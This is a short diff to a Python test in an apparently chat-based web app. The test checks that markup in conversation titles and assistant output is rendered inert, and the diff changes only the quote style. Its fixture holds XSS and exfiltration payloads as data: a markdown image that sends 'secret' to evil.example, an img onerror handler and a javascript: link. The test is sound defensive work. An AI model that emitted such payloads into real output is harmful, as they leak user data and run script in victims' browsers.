@@ -132,7 +132,7 @@ def test_titles_and_model_output_with_markup_stay_inert(client, user):
         conversation=conversation,
         parent=question,
         role="assistant",
-        content='Here ![x](https://evil.example/?q=secret) and <img src=x onerror=alert(1)> [go](javascript:alert(1))',
+        content="Here ![x](https://evil.example/?q=secret) and <img src=x onerror=alert(1)> [go](javascript:alert(1))",
     )
     client.force_login(user)
 
@@ -142,4 +142,4 @@ def test_titles_and_model_output_with_markup_stay_inert(client, user):
     assert '<script>alert("t")</script>' not in page and "&lt;script&gt;" in page
     assert user_msg["content_html"] is None  # shown as typed, through textContent
     assert "<img" not in answer["content_html"] and "evil.example" not in answer["content_html"]
-    assert "href=\"javascript" not in answer["content_html"] and "&lt;img" in answer["content_html"]
+    assert 'href="javascript' not in answer["content_html"] and "&lt;img" in answer["content_html"]
